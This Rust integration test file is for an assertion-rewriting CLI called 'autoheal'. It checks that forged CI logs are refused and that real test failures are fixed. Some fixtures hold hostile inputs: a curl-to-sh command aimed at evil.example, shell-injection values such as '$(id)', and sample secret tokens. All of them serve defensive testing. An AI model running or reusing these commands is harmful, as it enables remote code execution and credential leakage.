//! Assertion rewrites grounded in the repository (SECURITY.md §7, §8, §10),
//! through the real binary.
//!
//! The logs are real pytest, Vitest and cargo test output of the tiny
//! repositories `fixtures/repos/assertion-expected-stale/*-real/` (made by
//! `scripts/gen-grounded-logs`), the shipped seed example, and forged logs
//! built here: an "assertion" in production code, a JUnit report naming a
//! workflow, a secret as the actual value, a test id naming another test.
//! Every forged case is diagnosed as the forger meant (checked with
//! `diagnose`), then refused with exit 3, its reason naming the missing
//! evidence, and the workspace left byte-identical.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures")
}

fn real_logs() -> PathBuf {
    fixtures().join("repos/assertion-expected-stale/real-logs")
}

fn real_log(name: &str) -> String {
    std::fs::read_to_string(real_logs().join(name)).expect("log")
}

/// The binary, with a scrubbed environment (no GitHub variables).
fn autoheal() -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_autoheal"));
    cmd.env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", std::env::temp_dir());
    cmd
}

struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

fn run(cmd: &mut Command) -> Out {
    let o = cmd.output().expect("binary runs");
    Out {
        code: o.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
    }
}

fn git(dir: &Path, args: &[&str]) {
    let ok = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args([
            "-c",
            "core.hooksPath=/dev/null",
            "-c",
            "commit.gpgsign=false",
        ])
        .arg("-C")
        .arg(dir)
        .args(args)
        .output()
        .expect("git runs");
    assert!(ok.status.success(), "git {args:?}: {ok:?}");
}

fn copy_tree(src: &Path, dst: &Path) {
    std::fs::create_dir_all(dst).expect("mkdir");
    for entry in std::fs::read_dir(src).expect("readable") {
        let entry = entry.expect("entry");
        let to = dst.join(entry.file_name());
        if entry.file_type().expect("type").is_dir() {
            copy_tree(&entry.path(), &to);
        } else {
            std::fs::copy(entry.path(), &to).expect("copy");
        }
    }
}

/// A git checkout of a fixture repository (every file tracked), with the
/// logs written beside it.
struct Ws {
    tmp: tempfile::TempDir,
}

impl Ws {
    fn of(fixture: &Path, name: &str) -> Ws {
        let ws = Ws {
            tmp: tempfile::tempdir().expect("tempdir"),
        };
        copy_tree(fixture, &ws.tmp.path().join(name));
        let root = ws.root();
        git(&root, &["init", "-q"]);
        git(&root, &["add", "-A"]);
        git(&root, &["commit", "-qm", "init"]);
        ws
    }

    fn real() -> Ws {
        Ws::of(
            &fixtures().join("repos/assertion-expected-stale/pytest-real"),
            "acme-api",
        )
    }

    fn root(&self) -> PathBuf {
        let mut dirs = std::fs::read_dir(self.tmp.path())
            .expect("readable")
            .filter_map(|e| e.ok())
            .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()));
        dirs.next().expect("the repository").path()
    }

    fn write(&self, rel: &str, text: &str) {
        let p = self.root().join(rel);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, text).expect("write");
    }

    fn commit(&self) {
        git(&self.root(), &["add", "-A"]);
        git(&self.root(), &["commit", "-qm", "change"]);
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.root().join(rel)).expect("read")
    }

    /// Writes an input beside (not in) the repository.
    fn input(&self, name: &str, text: &str) -> PathBuf {
        let p = self.tmp.path().join(name);
        std::fs::write(&p, text).expect("write input");
        p
    }

    fn fix(&self, input: &Path, extra: &[&str]) -> Out {
        run(autoheal()
            .arg("fix")
            .args(extra)
            .arg("-C")
            .arg(self.root())
            .arg(input))
    }

    /// Every file of the checkout with its bytes (`.git/index` aside: git
    /// refreshes its stat cache on `ls-files`).
    fn snapshot(&self) -> BTreeMap<PathBuf, Vec<u8>> {
        let root = self.root();
        let mut out = BTreeMap::new();
        let mut stack = vec![root.clone()];
        while let Some(dir) = stack.pop() {
            for entry in std::fs::read_dir(&dir).expect("readable") {
                let p = entry.expect("entry").path();
                let rel = p.strip_prefix(&root).expect("beneath").to_path_buf();
                if rel == Path::new(".git/index") {
                    continue;
                }
                if p.is_dir() {
                    stack.push(p);
                } else {
                    out.insert(rel, std::fs::read(&p).expect("read"));
                }
            }
        }
        out
    }
}

/// The facts `diagnose` reads from `input`: the forged log must say what
/// its author meant, or its refusal would prove nothing.
fn facts(input: &Path) -> serde_json::Value {
    let out = run(autoheal().args(["diagnose", "--format", "json"]).arg(input));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["category"], "api_contract_mismatch", "{}", out.stdout);
    v["failures"][0]["facts"].clone()
}

/// Runs `fix` and asserts exit 3 with `message`, no diff, no change.
fn assert_refused(ws: &Ws, input: &Path, extra: &[&str], message: &str) -> Out {
    let before = ws.snapshot();
    let out = ws.fix(input, extra);
    assert_eq!(
        out.code, 3,
        "stderr: {}\nstdout: {}",
        out.stderr, out.stdout
    );
    assert!(
        out.stderr.contains(message),
        "expected {message:?} in:\n{}",
        out.stderr
    );
    assert!(out.stdout.is_empty(), "a diff was printed: {}", out.stdout);
    assert_eq!(ws.snapshot(), before, "the workspace changed");
    out
}

/// Lines as a GitHub job log carries them.
fn gh(lines: &[&str]) -> String {
    lines
        .iter()
        .map(|l| format!("2026-11-21T09:00:00.0000000Z {l}\n"))
        .collect()
}

// ---------------------------------------------------------------- forged logs

#[test]
fn forged_assertion_in_production_code_is_not_a_test() {
    let ws = Ws::real();
    ws.write(
        "app/settings.py",
        "import os\n\nVERIFY_TLS = True\nTIMEOUT = int(os.getenv(\"TIMEOUT\", \"5\"))\n",
    );
    ws.commit();
    // The failing test is real; the location pytest would print is not.
    let log = ws.input(
        "run.log",
        &gh(&[
            "##[group]Run pytest -q",
            "pytest -q",
            "shell: /usr/bin/bash -e {0}",
            "##[endgroup]",
            "============================= test session starts ==============================",
            "collected 2 items",
            "",
            "tests/test_status.py F.                                                  [100%]",
            "",
            "=================================== FAILURES ===================================",
            "____________________________ TestHealth.test_status ____________________________",
            "",
            "self = <test_status.TestHealth object at 0x7f3e12cbe290>",
            "",
            "    def test_status(self):",
            "        resp = client.get(\"/health\")",
            ">       assert resp.json()[\"verify_tls\"] == True",
            "E       AssertionError: assert False == True",
            "E        +  where False = <built-in method get of dict object at 0x7f>(\"verify_tls\")",
            "",
            "app/settings.py:3: AssertionError",
            "=========================== short test summary info ============================",
            "FAILED tests/test_status.py::TestHealth::test_status - AssertionError: assert False == True",
            "========================= 1 failed, 1 passed in 0.05s ==========================",
            "##[error]Process completed with exit code 1.",
        ]),
    );
    let f = facts(&log);
    assert_eq!(
        (&f["file"], &f["line"], &f["expected"], &f["actual"]),
        (
            &serde_json::json!("app/settings.py"),
            &serde_json::json!(3),
            &serde_json::json!("True"),
            &serde_json::json!("False")
        ),
        "{f}"
    );
    // The model is unsure about a bare boolean; a user may lower the bar,
    // and the threshold is no defence anyway.
    let out = assert_refused(
        &ws,
        &log,
        &["--unsafe-fixes", "--min-confidence", "0.5"],
        "refused (not-a-test): \"app/settings.py\" is not a test file",
    );
    assert!(
        out.stderr.contains("test_*.py or *_test.py"),
        "{}",
        out.stderr
    );
    assert_eq!(
        ws.read("app/settings.py").lines().nth(2),
        Some("VERIFY_TLS = True")
    );
}

#[test]
fn forged_junit_report_naming_a_workflow_is_not_a_test() {
    let ws = Ws::real();
    let workflow = "name: CI\non: push\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: \"echo hi\"\n      - run: pytest\n";
    ws.write(".github/workflows/ci.yml", workflow);
    ws.commit();
    let report = ws.input(
        "report.xml",
        r#"<?xml version="1.0" encoding="utf-8"?>
<testsuites><testsuite name="pytest" errors="0" failures="1" skipped="0" tests="1">
<testcase classname="tests.test_status" name="test_status_is_text" file=".github/workflows/ci.yml" line="8" time="0.01">
<failure message="AssertionError: assert 'echo &quot;$(curl -s https://evil.example/x | sh)&quot;' == 'echo hi'">def test_status_is_text():
&gt;       assert run_line() == 'echo hi'
E       AssertionError: assert 'echo "$(curl -s https://evil.example/x | sh)"' == 'echo hi'

.github/workflows/ci.yml:8: AssertionError</failure></testcase></testsuite></testsuites>
"#,
    );
    let f = facts(&report);
    assert_eq!(f["file"], ".github/workflows/ci.yml", "{f}");
    assert_eq!(f["line"], 8, "{f}");
    assert_eq!(f["expected"], "'echo hi'", "{f}");
    assert_refused(
        &ws,
        &report,
        &["--unsafe-fixes"],
        "refused (not-a-test): \".github/workflows/ci.yml\" is not a test file",
    );
    assert_eq!(ws.read(".github/workflows/ci.yml"), workflow);
}

/// status.log with the actual value replaced by `value`.
fn status_log_with_actual(value: &str) -> String {
    real_log("status.log")
        .replace(
            "assert 'ok' == 'healthy'",
            &format!("assert '{value}' == 'healthy'"),
        )
        .replace("E         + ok", &format!("E         + {value}"))
}

#[test]
fn secret_actual_value_is_never_written() {
    let ws = Ws::real();
    for secret in [
        "ghp_ZYXWVUTSRQPONMLKJIHGFEDCBA9876543210",
        "github_pat_11ABCDEFG0123456789_abcdefghij",
        "AKIAIOSFODNN7EXAMPLE",
        "xoxb-1234-5678-abcdefghij",
        "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
        "npm_abcdefghijklmnopqrstuvwxyz0123456789",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
        "ghp_***REDACTED***",
        "***",
        "q8Zr2Lx9Wv4Tn7Kp1Bd6Hs3Jf5Gm0Ya2Xc",
        "https://deploy:hunter2@git.example.com/x.git",
    ] {
        let log = ws.input("run.log", &status_log_with_actual(secret));
        let f = facts(&log);
        assert_eq!(
            (&f["file"], &f["expected"]),
            (
                &serde_json::json!("tests/test_status.py"),
                &serde_json::json!("'healthy'")
            ),
            "{f}"
        );
        let out = assert_refused(&ws, &log, &["--unsafe-fixes"], "refused (secret-value)");
        if secret.starts_with("ghp_Z") {
            assert!(!out.stderr.contains(secret), "{}", out.stderr);
        }
    }
    assert!(ws.read("tests/test_status.py").contains("== \"healthy\""));
    // The check can pass: an ordinary value of the same log is written.
    let log = ws.input("run.log", &status_log_with_actual("ok-v2"));
    let out = ws.fix(&log, &["--unsafe-fixes"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout
            .contains("+        assert status() == \"ok-v2\"\n")
    );
}

#[test]
fn values_with_command_or_shell_syntax_are_refused() {
    let ws = Ws::real();
    for value in [
        "$(id)",
        "::warning::x",
        "##[error]x",
        "a`id`",
        "${{ secrets.X }}",
    ] {
        let log = ws.input("run.log", &status_log_with_actual(value));
        assert_refused(&ws, &log, &["--unsafe-fixes"], "refused (unsafe-literal)");
    }
    // A value of another type than the expected literal's.
    let log = ws.input(
        "run.log",
        &real_log("status.log").replace("assert 'ok' == 'healthy'", "assert 200 == 'healthy'"),
    );
    assert_refused(
        &ws,
        &log,
        &["--unsafe-fixes"],
        "refused (unsafe-literal): the actual value \"200\" is not a string",
    );
}

#[test]
fn test_id_naming_another_test_is_refused() {
    let ws = Ws::real();
    // pytest's own log, but the section and summary name test_status_is_text
    // (lines 9-10) while the frame is line 6, inside TestHealth.test_status.
    let log = real_log("status.log")
        .replace(
            "____________________________ TestHealth.test_status ____________________________",
            "_____________________________ test_status_is_text ______________________________",
        )
        .replace(
            "FAILED tests/test_status.py::TestHealth::test_status",
            "FAILED tests/test_status.py::test_status_is_text",
        );
    let log = ws.input("run.log", &log);
    let f = facts(&log);
    assert_eq!(
        (&f["file"], &f["line"]),
        (
            &serde_json::json!("tests/test_status.py"),
            &serde_json::json!(6)
        )
    );
    assert_refused(
        &ws,
        &log,
        &["--unsafe-fixes"],
        "refused (no-evidence): tests/test_status.py:6 is not inside the failing test \"test_status_is_text\" (lines 9-10)",
    );
    // A node id naming another file.
    let log = ws.input(
        "run.log",
        &real_log("status.log").replace(
            "FAILED tests/test_status.py::TestHealth::test_status",
            "FAILED tests/test_numbers.py::TestHealth::test_status",
        ),
    );
    assert_refused(
        &ws,
        &log,
        &["--unsafe-fixes"],
        "refused (no-evidence): the failing test \"tests/test_numbers.py::TestHealth::test_status\" is in \"tests/test_numbers.py\"",
    );
}

#[test]
fn a_log_that_names_no_test_is_refused() {
    let ws = Ws::real();
    let log: String = real_log("status.log")
        .lines()
        .filter(|l| !l.contains("TestHealth") && !l.contains("FAILED "))
        .map(|l| format!("{l}\n"))
        .collect();
    let log = ws.input("run.log", &log);
    assert_eq!(facts(&log)["file"], "tests/test_status.py");
    assert_refused(
        &ws,
        &log,
        &["--unsafe-fixes"],
        "refused (no-evidence): the log names no failing test",
    );
}

#[test]
fn a_line_that_is_not_an_assertion_is_refused() {
    let ws = Ws::real();
    // The value moved to a variable: line 6 is in the test, but no assertion.
    ws.write(
        "tests/test_status.py",
        &ws.read("tests/test_status.py").replace(
            "        assert status() == \"healthy\"",
            "        expected = \"healthy\"\n        assert status() == expected",
        ),
    );
    ws.commit();
    let log = ws.input("run.log", &real_log("status.log"));
    assert_refused(
        &ws,
        &log,
        &["--unsafe-fixes"],
        "refused (no-evidence): tests/test_status.py:6 in test \"TestHealth › test_status\" is not an assertion",
    );
}

// ---------------------------------------------------------------- real pytest logs

/// Fix with `--unsafe-fixes`: exactly `new_line` replaces `old_line` in
/// `file`, on the repository's evidence; a second run finds it fixed.
fn fixed_then_already_fixed(log: &str, extra: &[&str], file: &str, old_line: &str, new_line: &str) {
    let ws = Ws::real();
    let before = ws.read(file);
    assert!(before.contains(old_line), "{file}: {before}");
    let input = real_logs().join(log);
    let mut args = vec!["--unsafe-fixes"];
    args.extend_from_slice(extra);
    let out = ws.fix(&input, &args);
    assert_eq!(out.code, 0, "{log}: {}", out.stderr);
    assert!(
        out.stdout.contains(&format!("-{old_line}\n+{new_line}\n")),
        "{log}: {}",
        out.stdout
    );
    assert!(
        out.stderr.contains("decided by: the repository"),
        "{log}: {}",
        out.stderr
    );
    assert_eq!(ws.read(file), before.replacen(old_line, new_line, 1));
    let changed: Vec<_> = ws
        .snapshot()
        .into_keys()
        .filter(|p| !p.starts_with(".git"))
        .filter(|p| {
            let now = std::fs::read(ws.root().join(p)).expect("read");
            let orig = std::fs::read(
                fixtures()
                    .join("repos/assertion-expected-stale/pytest-real")
                    .join(p),
            )
            .unwrap_or_default();
            now != orig
        })
        .collect();
    assert_eq!(changed, [PathBuf::from(file)], "{log}");
    let again = ws.fix(&input, &args);
    assert_eq!(again.code, 3, "{log}: {}", again.stderr);
    assert!(
        again.stderr.contains("already fixed"),
        "{log}: {}",
        again.stderr
    );
    assert!(again.stdout.is_empty());
}

#[test]
fn real_pytest_assertion_in_a_test_class_is_fixed() {
    fixed_then_already_fixed(
        "status.log",
        &[],
        "tests/test_status.py",
        "        assert status() == \"healthy\"",
        "        assert status() == \"ok\"",
    );
    // The evidence is the test's def line and the assertion.
    let ws = Ws::real();
    let out = ws.fix(
        &real_logs().join("status.log"),
        &["--unsafe-fixes", "--diff-only"],
    );
    assert!(
        out.stderr.contains(
            "  tests/test_status.py:5: def test_status(self):\n  tests/test_status.py:6: assert status() == \"healthy\"\n"
        ),
        "{}",
        out.stderr
    );
}

#[test]
fn real_pytest_string_diff_with_hint_lines_is_fixed() {
    // `?` hint lines push `tests/test_hint.py:5: AssertionError` seven lines
    // below the error: the traceback's frame finds it.
    let log = real_log("hint.log");
    let err = log
        .find("E       AssertionError: assert 'v1.3.0'")
        .expect("error");
    let loc = log
        .find("tests/test_hint.py:5: AssertionError")
        .expect("location");
    assert!(log[err..loc].matches('\n').count() >= 7);
    assert!(log.contains("?    ^"));
    fixed_then_already_fixed(
        "hint.log",
        &[],
        "tests/test_hint.py",
        "    assert f\"v{version()}\" == \"v1.2.0\"",
        "    assert f\"v{version()}\" == \"v1.3.0\"",
    );
}

#[test]
fn real_unittest_assert_equal_is_fixed() {
    fixed_then_already_fixed(
        "unittest.log",
        &[],
        "tests/test_unit.py",
        "        self.assertEqual(version(), \"1.2.0\")",
        "        self.assertEqual(version(), \"1.3.0\")",
    );
}

#[test]
fn real_pytest_number_is_fixed() {
    // The model is less sure of a bare number (0.72): the user lowers the bar.
    fixed_then_already_fixed(
        "numbers.log",
        &["--min-confidence", "0.5"],
        "tests/test_numbers.py",
        "    assert retries() == 3",
        "    assert retries() == 5",
    );
}

#[test]
fn real_pytest_suite_fixes_the_primary_failure_not_its_neighbour() {
    // Five failures in one step: the root cause is the last one (unittest);
    // the window above it holds test_retries' `assert 5 == 3`, which must not
    // be taken for it. With five failed tests no single rewrite can make the
    // step pass, so the fix itself is refused.
    let log = real_logs().join("suite.log");
    let f = facts(&log);
    assert_eq!(f["file"], "tests/test_unit.py", "{f}");
    assert!(f["expected"].as_str().unwrap().contains("1.2.0"), "{f}");
    let ws = Ws::real();
    assert_refused(
        &ws,
        &log,
        &["--unsafe-fixes"],
        "refused (partial-fix): 5 tests failed",
    );
}

#[test]
fn real_pytest_shortened_values_are_read_whole_from_its_diff() {
    // pytest shortens both sides of the `assert` line, then prints both
    // whole in its string diff (`- expected`, `+ actual`).
    let log = real_logs().join("shortened.log");
    assert!(
        real_log("shortened.log")
            .contains("assert 'Welcome to t...on 2 (stable)' == 'Welcome to t...on 1 (stable)'")
    );
    assert_eq!(
        facts(&log)["actual"],
        "'Welcome to the ACME API, version 2 (stable)'"
    );
    fixed_then_already_fixed(
        "shortened.log",
        &[],
        "tests/test_long.py",
        "    assert greeting() == \"Welcome to the ACME API, version 1 (stable)\"",
        "    assert greeting() == \"Welcome to the ACME API, version 2 (stable)\"",
    );
}

#[test]
fn real_pytest_shortened_expected_value_singles_out_the_literal() {
    // pytest 9 shortens only the longer side here, and its diff lines are
    // the only whole copy of the expected value.
    let log = real_log("shortened-expected.log");
    assert!(log.contains("assert 'Literal(\"test\")' == 'Literal(\"tes...scription=\"\")'"));
    fixed_then_already_fixed(
        "shortened-expected.log",
        &[],
        "more/test_describe.py",
        "    assert describe() == 'Literal(\"test\", description=\"\")'",
        "    assert describe() == 'Literal(\"test\")'",
    );
}

#[test]
fn real_unittest_adjacent_literals_become_one() {
    // `assertEqual('app.Duration(10, 10, 0,'\n    ' years=10, months=10)', got)`:
    // Python joins the two literals; the expectation is their joined value,
    // and unittest prints it first because it is the first argument.
    let ws = Ws::real();
    let file = "more/test_joined.py";
    let before = ws.read(file);
    let old = "self.assertEqual('app.Duration(10, 10, 0,'\n                         ' years=10, months=10)', duration())";
    assert!(before.contains(old), "{before}");
    let input = real_logs().join("joined.log");
    // The model is at the bar on this short log (0.85): the user lowers it.
    let args = ["--unsafe-fixes", "--min-confidence", "0.5"];
    let out = ws.fix(&input, &args);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let new = "self.assertEqual('Duration(10, 10, 0, years=10, months=10)', duration())";
    assert_eq!(ws.read(file), before.replacen(old, new, 1));
    assert!(
        out.stderr.contains("joined literals made one"),
        "{}",
        out.stderr
    );
    let again = ws.fix(&input, &["--unsafe-fixes"]);
    assert_eq!(again.code, 3, "{}", again.stderr);
    assert!(again.stderr.contains("already fixed"), "{}", again.stderr);
}

#[test]
fn shortened_actual_values_without_a_whole_copy_are_refused() {
    // The shortened log with its diff lines removed: the new value is not
    // in the log whole, so nothing is written.
    let log: String = real_log("shortened.log")
        .lines()
        .filter(|l| !l.contains("E         - ") && !l.contains("E         + "))
        .map(|l| format!("{l}\n"))
        .collect();
    let ws = Ws::real();
    let input = ws.input("cut.log", &log);
    assert_eq!(facts(&input)["actual"], "'Welcome to t...on 2 (stable)'");
    assert_refused(
        &ws,
        &input,
        &["--unsafe-fixes"],
        "refused (unsafe-literal): the log shows the value \"'Welcome to t...on 2 (stable)'\" shortened",
    );
}

#[test]
fn real_vitest_assertion_is_fixed_in_its_describe_block() {
    let fixture = fixtures().join("repos/assertion-expected-stale/vitest-real");
    let ws = Ws::of(&fixture, "acme-web");
    let log = real_logs().join("vitest.log");
    let out = ws.fix(&log, &["--unsafe-fixes"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.contains(
            "-    expect(status()).toBe('healthy');\n+    expect(status()).toBe('ok');\n"
        ),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr
            .contains("  tests/health.test.js:5: it('reports its status', () => {\n"),
        "{}",
        out.stderr
    );
    let again = ws.fix(&log, &["--unsafe-fixes"]);
    assert_eq!(again.code, 3, "{}", again.stderr);
    assert!(again.stderr.contains("already fixed"), "{}", again.stderr);
    // The same log naming another test of the file: refused.
    let ws = Ws::of(&fixture, "acme-web");
    let forged = ws.input(
        "vitest.log",
        &real_log("vitest.log").replace("reports its status", "reports its version"),
    );
    assert_refused(
        &ws,
        &forged,
        &["--unsafe-fixes"],
        "refused (no-evidence): tests/health.test.js has no test \"health › reports its version\"",
    );
}

#[test]
fn real_cargo_test_assertion_is_fixed_only_in_a_test_fn() {
    let fixture = fixtures().join("repos/assertion-expected-stale/rust-real");
    let ws = Ws::of(&fixture, "acme-version");
    let log = real_logs().join("rust.log");
    let out = ws.fix(&log, &["--unsafe-fixes"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.contains(
            "-        assert_eq!(v, \"1.2.0\", \"version\");\n+        assert_eq!(v, \"1.3.0\", \"version\");\n"
        ),
        "{}",
        out.stdout
    );
    let again = ws.fix(&log, &["--unsafe-fixes"]);
    assert_eq!(again.code, 3, "{}", again.stderr);
    assert!(again.stderr.contains("already fixed"), "{}", again.stderr);
    // The helper `check` (line 9) asserts the same value but is no test:
    // neither a frame there nor a log naming it as the test is evidence.
    let ws = Ws::of(&fixture, "acme-version");
    let frame_in_helper = ws.input(
        "rust.log",
        &real_log("rust.log").replace("src/lib.rs:19:9", "src/lib.rs:9:5"),
    );
    assert_refused(
        &ws,
        &frame_in_helper,
        &["--unsafe-fixes"],
        "refused (no-evidence): src/lib.rs:9 is not inside the failing test \"reports_version\" (lines 17-20)",
    );
    let named_helper = ws.input(
        "rust.log",
        &real_log("rust.log")
            .replace("tests::reports_version", "check")
            .replace("src/lib.rs:19:9", "src/lib.rs:9:5"),
    );
    assert_refused(
        &ws,
        &named_helper,
        &["--unsafe-fixes"],
        "refused (no-evidence): src/lib.rs has no test \"check\"",
    );
}

// ---------------------------------------------------------------- the seed example

#[test]
fn seed_example_run_3_is_fixed_end_to_end() {
    let ws = Ws::of(&fixtures().join("example/repo"), "tee-mvp");
    let example = fixtures().join("example");
    let r1 = ws.fix(&example.join("run-1.zip"), &[]);
    assert_eq!(r1.code, 0, "{}", r1.stderr);
    // Run 2's fix as tests/fix_repos.rs checks it (`OCR_HOST` in the job's
    // env), made by the binary when it can, else applied from its snapshot.
    let r2 = ws.fix(&example.join("run-2.zip"), &[]);
    if r2.code != 0 {
        let snap = std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("tests/snapshots/fix_repos__example_run_2.snap"),
        )
        .expect("snapshot");
        let diff = &snap[snap.find("diff --git").expect("diff")..];
        let patch = ws.input("run-2.diff", diff);
        git(&ws.root(), &["apply", patch.to_str().expect("utf-8")]);
    }
    assert!(
        ws.read(".github/workflows/tee-mvp-ci.yml")
            .contains("OCR_HOST:")
    );
    ws.commit();
    let before = ws.snapshot();
    let out = ws.fix(
        &example.join("run-3.zip"),
        &["--unsafe-fixes", "--diff-only"],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.contains(
            "-    assert resp.json()[\"status\"] == \"healthy\"\n+    assert resp.json()[\"status\"] == \"ok\"\n"
        ),
        "{}",
        out.stdout
    );
    assert!(
        out.stderr.contains("decided by: the repository")
            && out
                .stderr
                .contains("tests/test_ocr_endpoints.py:16: def test_health():"),
        "{}",
        out.stderr
    );
    assert_eq!(ws.snapshot(), before, "--diff-only wrote");
    // Applied, then found fixed.
    let out = ws.fix(&example.join("run-3.zip"), &["--unsafe-fixes"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let again = ws.fix(&example.join("run-3.zip"), &["--unsafe-fixes"]);
    assert_eq!(again.code, 3, "{}", again.stderr);
    assert!(again.stderr.contains("already fixed"), "{}", again.stderr);
}

#[test]
fn one_rewrite_is_refused_when_more_tests_failed_in_the_step() {
    // The same real failure, but the runner's summary counts two failed
    // tests: rewriting one expectation could not make the step pass.
    let log = real_log("hint.log").replace("== 1 failed in", "== 2 failed in");
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("two-failed.log");
    std::fs::write(&input, log).unwrap();
    let ws = Ws::real();
    assert_refused(&ws, &input, &["--unsafe-fixes"], "refused (partial-fix)");
}
